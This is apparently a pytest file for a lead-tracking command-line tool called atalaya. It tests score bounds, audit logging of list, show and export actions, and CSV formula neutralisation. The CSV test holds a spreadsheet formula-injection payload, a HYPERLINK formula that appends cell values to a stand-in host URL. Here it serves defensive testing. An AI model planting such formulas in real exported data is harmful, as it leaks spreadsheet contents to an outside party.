"""`atalaya leads` as a careless operator or an attacker would use it (issue 10)."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from sqlalchemy import Engine, func, select

from atalaya.audit.log import AuditQuery, read_records
from atalaya.audit.shown import shown_ranges
from atalaya.store.tables import lead_override
from tests.accounts.helpers import insert_lead, unit_with_user
from tests.support.cli import run_atalaya


def atalaya(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    return run_atalaya(*args, env={"ATALAYA_DATABASE_URL": db_url, "COLUMNS": "200"})


@pytest.fixture
def one_lead(engine: Engine) -> Engine:
    with engine.begin() as conn:
        insert_lead(conn, 7, "28")
    return engine


def test_override_scores_are_bounded_to_0_100(db_url: str, one_lead: Engine) -> None:
    for score in ("1e308", "-5", "100000", "nan"):
        done = atalaya(db_url, "leads", "override", "7", "--score", score, "--reason", "typo")
        assert done.returncode != 0, score
        assert "from 0 to 100" in done.stderr and "Traceback" not in done.stderr
    with one_lead.connect() as conn:
        assert conn.scalar(select(func.count()).select_from(lead_override)) == 0
    done = atalaya(db_url, "leads", "override", "7", "--score", "100", "--reason", "by hand")
    assert done.returncode == 0, done.stderr


def test_csv_export_neutralises_formulas(db_url: str, one_lead: Engine) -> None:
    reason = '=HYPERLINK("http://x.example/?"&B2&C2, "open")'
    done = atalaya(db_url, "leads", "override", "7", "--score", "50", "--reason", reason)
    assert done.returncode == 0, done.stderr
    exported = atalaya(db_url, "leads", "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [r["override_reason"] for r in rows] == ["'" + reason]
    assert rows[0]["networks"] == "bittorrent"


def test_list_show_and_export_are_audited_with_the_leads_they_showed(
    db_url: str, one_lead: Engine
) -> None:
    with one_lead.begin() as conn:
        insert_lead(conn, 8, "08")
        insert_lead(conn, 9, None)
    assert atalaya(db_url, "leads", "list", "--json").returncode == 0
    assert atalaya(db_url, "leads", "list", "--province", "28").returncode == 0
    assert atalaya(db_url, "leads", "show", "8").returncode == 0
    assert atalaya(db_url, "leads", "export", "--format", "jsonl").returncode == 0
    with one_lead.connect() as conn:
        records = [e.fields for e in read_records(conn, AuditQuery())]
        saw_8 = [e.fields.action for e in read_records(conn, AuditQuery(lead_id=8))]
    assert [(r.action, r.object_type, r.object_id) for r in records] == [
        ("search", "leads", None),
        ("search", "leads", None),
        ("view", "lead", "8"),
        ("export", "leads", None),
    ]
    assert [shown_ranges(r.details) for r in records if r.action != "view"] == [
        [(7, 9)],
        [(7, 7)],
        [(7, 9)],
    ]
    assert records[1].details["filters"]["province"] == "28"
    assert all(r.details["via"] == "cli" for r in records)
    assert saw_8 == ["search", "view", "export"]
    # The same question from the command line, as an auditor who sees every unit.
    unit_with_user(one_lead, "Central", ("28",), "nina", "national_auditor")
    shown = atalaya(db_url, "audit", "show", "--as", "nina", "--lead", "8", "--json")
    assert shown.returncode == 0, shown.stderr
    answered = [json.loads(line)["action"] for line in shown.stdout.splitlines()]
    assert answered == ["search", "view", "export"]


def test_the_store_api_bounds_override_scores_for_every_caller(one_lead: Engine) -> None:
    """The 0-100 rule lives in `override_score` itself, not only in the CLI and web parsers."""
    from datetime import UTC, datetime

    from atalaya.errors import AtalayaError
    from atalaya.leads.query import override_score

    now = datetime(2026, 11, 20, tzinfo=UTC)
    for score in (1e308, -5.0, 100.5, float("nan"), float("inf")):
        with pytest.raises(AtalayaError, match="from 0 to 100"):
            override_score(one_lead, 7, score, "typo", "ana", now=now)
    with one_lead.connect() as conn:
        assert conn.scalar(select(func.count()).select_from(lead_override)) == 0
    assert override_score(one_lead, 7, 0.0, "cleared by hand", "ana", now=now)["score"] == 0.0
